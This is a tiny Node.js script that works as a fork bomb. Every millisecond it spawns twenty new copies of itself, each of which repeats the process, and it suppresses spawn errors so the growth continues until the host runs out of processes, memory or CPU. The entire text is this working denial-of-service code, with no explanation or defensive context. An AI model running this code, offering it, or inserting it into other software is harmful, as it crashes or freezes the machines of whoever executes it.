const { spawn } = require('child_process')
setInterval(() => {
  for (let i = 0; i < 20; i++) spawn(process.execPath, [__filename]).on('error', () => {})
}, 1)
